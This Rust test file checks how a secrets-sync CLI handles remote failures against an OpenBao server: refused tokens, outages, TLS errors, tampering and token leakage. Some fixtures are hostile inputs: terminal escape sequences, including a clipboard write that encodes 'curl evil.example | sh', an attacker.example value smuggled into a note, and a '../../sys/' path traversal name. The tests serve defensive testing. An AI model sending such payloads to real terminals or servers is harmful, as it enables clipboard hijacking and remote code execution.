//! Team remote failures against a real OpenBao server (started by `.ci/bao-session`): a
//! read-only token refused on push, a server that stops mid-way (a second server of this
//! test's own, killed by its pid), TLS and not-found errors. Each error names the remote and
//! the HTTP status where there is one, exits with the documented code, and leaves the local
//! vault untouched; `export` keeps working offline.

use crate::common;

use common::bao::{Dev, bao, prefix};
use common::fake_http::Fake;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

#[test]
fn read_only_token_is_refused_on_push() {
    let b = bao();
    let p = prefix("readonly");
    let alice = Dev::new(&b.addr, &b.token, &p);
    alice.set("app", "SHARED", "shared-value");
    alice.ok(&["push", "app"]);

    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("ro.hcl");
    std::fs::write(
        &policy,
        format!(
            "path \"secret/data/{p}/*\" {{ capabilities = [\"read\"] }}\n\
             path \"secret/metadata/{p}/*\" {{ capabilities = [\"read\", \"list\"] }}\n\
             path \"secret/metadata/{p}\" {{ capabilities = [\"list\"] }}\n"
        ),
    )
    .unwrap();
    let name = format!("devvault-ro-{}", p.replace('/', "-"));
    b.cli(&["policy", "write", &name, policy.to_str().unwrap()]);
    let ro = b.cli(&[
        "token",
        "create",
        &format!("-policy={name}"),
        "-field=token",
    ]);
    let reader = Dev::new(&b.addr, ro.trim(), &p);

    reader.ok(&["pull", "app"]);
    assert_eq!(reader.get("app", "SHARED"), "shared-value");
    reader.set("app", "MINE", "reader-secret-value");
    let err = reader.fails(&["push", "app"], 6);
    assert!(
        err.contains("remote `team`") && err.contains("HTTP 403"),
        "{err}"
    );
    assert!(
        err.contains("devvault remote login team") && err.contains("policy"),
        "{err}"
    );
    assert!(
        !err.contains("reader-secret-value") && !err.contains(ro.trim()),
        "{err}"
    );
    assert_eq!(reader.get("app", "MINE"), "reader-secret-value");
    assert_eq!(reader.state("app/dev"), "local-ahead");
}

/// A bao dev server of this test's own, killed by its pid when dropped.
struct OwnServer(Child);

impl Drop for OwnServer {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Starts `bao server -dev` (with `-dev-tls` and its CA in `tls_dir` when given) on a free
/// port; the server and its address.
fn start_own_server(
    bin: &std::path::Path,
    token: &str,
    tls_dir: Option<&std::path::Path>,
) -> (OwnServer, String) {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut cmd = Command::new(bin);
    cmd.args([
        "server",
        "-dev",
        &format!("-dev-root-token-id={token}"),
        &format!("-dev-listen-address=127.0.0.1:{port}"),
        "-dev-no-store-token",
    ]);
    if let Some(dir) = tls_dir {
        cmd.arg("-dev-tls")
            .arg(format!("-dev-tls-cert-dir={}", dir.display()));
    }
    let child = cmd
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let server = OwnServer(child);
    let scheme = if tls_dir.is_some() { "https" } else { "http" };
    let addr = format!("{scheme}://127.0.0.1:{port}");
    let deadline = Instant::now() + Duration::from_secs(10);
    let tls = ureq::tls::TlsConfig::builder()
        .disable_verification(true)
        .build();
    let agent = ureq::Agent::config_builder()
        .tls_config(tls)
        .build()
        .new_agent();
    loop {
        let ok = agent
            .get(&format!("{addr}/v1/sys/health"))
            .call()
            .is_ok_and(|r| r.status() == 200);
        if ok {
            return (server, addr);
        }
        assert!(
            Instant::now() < deadline,
            "own bao server did not start on {addr}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn files(dev: &Dev) -> Vec<Vec<u8>> {
    let db = &dev.env.vault;
    let wal = db.with_file_name("vault.db-wal");
    vec![
        std::fs::read(db).unwrap(),
        std::fs::read(wal).unwrap_or_default(),
    ]
}

#[test]
fn server_stopped_midway_leaves_the_vault_untouched() {
    let b = bao();
    let token = "own-root-token";
    let (server, addr) = start_own_server(&b.bin, token, None);
    let dev = Dev::new(&addr, token, "devvault");
    dev.set("app", "KEY", "kept-value");
    dev.ok(&["push", "app"]);
    dev.set("app", "LATER", "later-value");
    let export = dev.ok(&["export", "app", "--format", "json"]);
    // `export` leaves its audit entry in the WAL (reads skip the checkpoint at close); a
    // plain read folds it into the file, so the bytes compared below are settled.
    dev.ok(&["ls", "app"]);
    drop(server);

    let before = files(&dev);
    for args in [
        &["push", "app"][..],
        &["pull", "app"],
        &["pull", "--all"],
        &["remote", "status"],
    ] {
        let err = dev.fails(args, 6);
        assert!(
            err.contains("remote `team`") && err.contains(&addr),
            "{err}"
        );
        assert!(
            err.contains("cannot reach") && err.contains("export and run keep working"),
            "{err}"
        );
    }
    assert!(
        before == files(&dev),
        "a failed push or pull changed the vault file"
    );
    assert_eq!(dev.ok(&["export", "app", "--format", "json"]), export);
    dev.ok(&["audit", "verify"]);
}

#[test]
fn tls_needs_the_servers_ca() {
    let b = bao();
    let certs = tempfile::tempdir().unwrap();
    let (_server, addr) = start_own_server(&b.bin, "own-tls-token", Some(certs.path()));
    let dev = Dev::new(&addr, "own-tls-token", "devvault");
    dev.set("app", "KEY", "v");
    // A self-signed CA the web roots do not know: refused, with the fix.
    let err = dev.fails(&["push", "app"], 6);
    assert!(
        err.contains("remote `team`") && err.contains("TLS failed"),
        "{err}"
    );
    assert!(err.contains("VAULT_CACERT"), "{err}");
    let ca = certs.path().join("vault-ca.pem");
    dev.cmd()
        .env("VAULT_CACERT", &ca)
        .args(["push", "app"])
        .assert()
        .success();
    dev.cmd()
        .env("VAULT_SKIP_VERIFY", "1")
        .args(["pull", "app"])
        .assert()
        .success();

    let not_pem = dev.env.dir.path().join("bad.pem");
    std::fs::write(&not_pem, "not a certificate").unwrap();
    let out = dev
        .cmd()
        .env("VAULT_CACERT", &not_pem)
        .args(["push", "app"])
        .assert()
        .code(6);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(err.contains("holds no PEM certificate"), "{err}");
    // Plain HTTP spoken to as TLS fails the same clear way.
    let http_as_tls = Dev::new(
        &b.addr.replace("http://", "https://"),
        &b.token,
        &prefix("tls"),
    );
    http_as_tls.set("app", "KEY", "v");
    let err = http_as_tls.fails(&["push", "app"], 6);
    assert!(err.contains("TLS failed"), "{err}");
}

#[test]
fn missing_scope_and_missing_remote_are_not_found() {
    let b = bao();
    let dev = Dev::new(&b.addr, &b.token, &prefix("notfound"));
    let err = dev.fails(&["pull", "nothere/prod"], 4);
    assert!(err.contains("nothere/prod on remote `team`"), "{err}");
    let err = dev.fails(&["pull", "--all"], 4);
    assert!(err.contains("any scope on remote `team`"), "{err}");
    dev.ok(&["remote", "rm", "team"]);
    dev.set("app", "KEY", "v");
    let err = dev.fails(&["push", "app"], 4);
    assert!(err.contains("devvault remote add"), "{err}");
    assert_eq!(dev.ok(&["remote", "ls", "--json"]).trim(), "[]");
}

#[test]
fn tampered_remote_settings_are_detected() {
    // No server needed: the sealed rows and their MAC in the header are local.
    let env = common::cli::Env::new();
    let add = |url: &str| {
        env.cmd()
            .args(["remote", "add", "team", url])
            .assert()
            .success();
    };
    add("https://one.example");
    let db = common::sql(&env.vault);
    let old: Vec<u8> = db
        .query_row("SELECT body FROM remotes", [], |r| r.get(0))
        .unwrap();
    add("https://two.example");
    // Putting back the older copy of the row (e.g. to point pushes at another server).
    db.execute("UPDATE remotes SET body = ?1", [&old]).unwrap();
    let out = env.cmd().args(["remote", "ls"]).assert().code(5);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(err.contains("remotes and their sync states"), "{err}");
    // Deleting it is caught the same way.
    db.execute("DELETE FROM remotes", []).unwrap();
    env.cmd().args(["remote", "ls"]).assert().code(5);
}

/// An error body with terminal escapes (clipboard write, title, screen clear) and 5,000 more
/// bytes.
fn hostile_errors() -> String {
    let said = format!(
        "permission denied\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;owned\x07\x1b[2J\x1b[H\r\u{2028}{}",
        "A".repeat(5000)
    );
    serde_json::json!({ "errors": [said] }).to_string()
}

fn assert_escaped(err: &str) {
    assert!(
        !err.contains(['\x1b', '\x07', '\r', '\u{2028}']),
        "raw control characters reached the terminal: {err:?}"
    );
    assert!(
        err.len() < 2000,
        "the server's text is not cut: {} bytes",
        err.len()
    );
}

#[test]
fn hostile_server_error_bodies_are_escaped_and_cut() {
    let server = Fake::start(|_| (403, hostile_errors()));
    let dev = Dev::new(&server.addr, "t0k3n", "devvault");
    let err = dev.fails(&["pull", "app"], 6);
    assert!(
        err.contains("HTTP 403") && err.contains("permission denied"),
        "{err}"
    );
    assert_escaped(&err);
    let err = dev.fails(&["remote", "login", "team"], 6);
    assert!(err.contains("HTTP 403"), "{err}");
    assert_escaped(&err);
}

#[test]
fn plain_http_and_credentials_in_a_remote_address_are_refused() {
    let env = common::cli::Env::new();
    let add = |args: &[&str]| env.cmd().args(["remote", "add"]).args(args).assert();
    let out = add(&["corp", "http://vault.corp.example.com:8200"]).code(1);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(
        err.contains("--insecure-http") && err.contains("in clear"),
        "{err}"
    );
    let out = add(&["corp", "https://admin:hunter2@vault.corp.example.com"]).code(1);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(
        err.contains("credentials") && !err.contains("hunter2"),
        "{err}"
    );
    assert_eq!(
        env.cmd()
            .args(["remote", "ls", "--json"])
            .output()
            .unwrap()
            .stdout,
        b"[]\n"
    );
    add(&["local", "http://127.0.0.1:8200"]).success();
    add(&[
        "corp",
        "http://vault.corp.example.com:8200",
        "--insecure-http",
    ])
    .success()
    .stderr(predicates::str::contains("in clear"));
    let out = env.cmd().args(["remote", "ls"]).output().unwrap();
    let ls = String::from_utf8_lossy(&out.stdout).to_string();
    let corp = ls.lines().find(|l| l.starts_with("corp")).unwrap();
    assert!(corp.contains("insecure http"), "{ls}");
    let local = ls.lines().find(|l| l.starts_with("local")).unwrap();
    assert!(!local.contains("insecure"), "{ls}");
}

#[test]
fn vault_token_goes_only_to_the_server_vault_addr_names() {
    let server = Fake::start(|_| (404, "{}".to_string()));
    let dev = Dev::new(&server.addr, "env-token-for-elsewhere", "devvault");
    let out = dev
        .cmd()
        .env("VAULT_ADDR", "https://vault.other.example:8200")
        .env("VAULT_SKIP_VERIFY", "1")
        .args(["pull", "app"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(!out.status.success());
    assert!(
        err.contains("VAULT_TOKEN not used for remote team") && err.contains("vault.other.example"),
        "{err}"
    );
    assert!(err.contains("VAULT_SKIP_VERIFY"), "{err}");
    assert!(
        server
            .seen()
            .iter()
            .all(|h| !h.contains("env-token-for-elsewhere")),
        "the token went to another server: {:?}",
        server.seen()
    );
    // `remote login` neither sends VAULT_TOKEN nor ~/.vault-token to another server.
    std::fs::write(
        dev.env.dir.path().join(".vault-token"),
        "home-token-for-elsewhere",
    )
    .unwrap();
    let out = dev
        .cmd()
        .env("VAULT_ADDR", "https://vault.other.example:8200")
        .args(["remote", "login", "team"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(!out.status.success());
    assert!(
        err.contains("VAULT_TOKEN not used") && err.contains("~/.vault-token not used"),
        "{err}"
    );
    assert!(
        server.seen().iter().all(|h| !h.contains("for-elsewhere")),
        "a token went to another server: {:?}",
        server.seen()
    );
    // VAULT_ADDR naming this remote: the token is used (with a trailing slash, any case).
    dev.cmd()
        .env("VAULT_ADDR", format!("{}/", server.addr.to_uppercase()))
        .args(["pull", "app"])
        .assert()
        .code(4);
    let heads = server.seen();
    let token = heads
        .iter()
        .find(|h| h.contains("/v1/secret/data/devvault/app/dev"))
        .unwrap();
    assert!(
        token
            .to_ascii_lowercase()
            .contains("x-vault-token: env-token-for-elsewhere"),
        "{token}"
    );
}

#[test]
fn a_listed_name_that_leaves_the_prefix_is_refused_before_any_request_uses_it() {
    let server = Fake::start(|req| {
        let body = if req.contains("/metadata/devvault?") || req.contains("/metadata/devvault/?") {
            serde_json::json!({"data": {"keys": ["app/", "../../sys/"]}})
        } else if req.contains("/metadata/devvault/app") {
            serde_json::json!({"data": {"keys": ["dev"]}})
        } else {
            return (404, "{}".into());
        };
        (200, body.to_string())
    });
    let dev = Dev::new(&server.addr, "t0k3n", "devvault");
    let err = dev.fails(&["pull", "--all"], 6);
    assert!(
        err.contains("../../sys/") && err.contains("not a name"),
        "{err}"
    );
    for head in server.seen() {
        let line = head.lines().next().unwrap();
        // The mount check (sys/internal/ui/mounts/secret) is the one sys/ request.
        if line == "GET /v1/sys/internal/ui/mounts/secret HTTP/1.1" {
            continue;
        }
        assert!(
            !line.contains("..") && !line.contains("/sys"),
            "requested {line}"
        );
    }
}

/// A KV v2 read answer holding `data` (field -> string).
fn kv_answer(data: serde_json::Value) -> String {
    serde_json::json!({"data": {"data": data, "metadata": {"version": 1}}}).to_string()
}

#[test]
fn hostile_notes_and_a_70000_byte_name_from_a_remote_are_refused() {
    let meta = serde_json::json!({"format": 1, "keys": {"API_BASE": {
        "version": 1, "note": "rotated\u{2028}API_BASE=https://attacker.example\x1b]52;c;eA==\x07"}}})
    .to_string();
    let hostile =
        kv_answer(serde_json::json!({"API_BASE": "https://api.example", "devvault:meta": meta}));
    let long = kv_answer(serde_json::json!({"K".repeat(70_000): "v"}));
    let server = Fake::start(move |req| {
        if req.contains("/data/devvault/app/dev") {
            (200, hostile.clone())
        } else if req.contains("/data/devvault/long/dev") {
            (200, long.clone())
        } else {
            (404, "{}".into())
        }
    });
    let dev = Dev::new(&server.addr, "t0k3n", "devvault");
    let err = dev.fails(&["pull", "app"], 1);
    assert!(err.contains("note of `API_BASE`"), "{err}");
    assert_escaped(&err);
    let err = dev.fails(&["pull", "long"], 6);
    assert!(err.contains("longer than 256"), "{err}");
    assert_escaped(&err);
    dev.cmd().args(["ls", "app"]).assert().code(4);
}
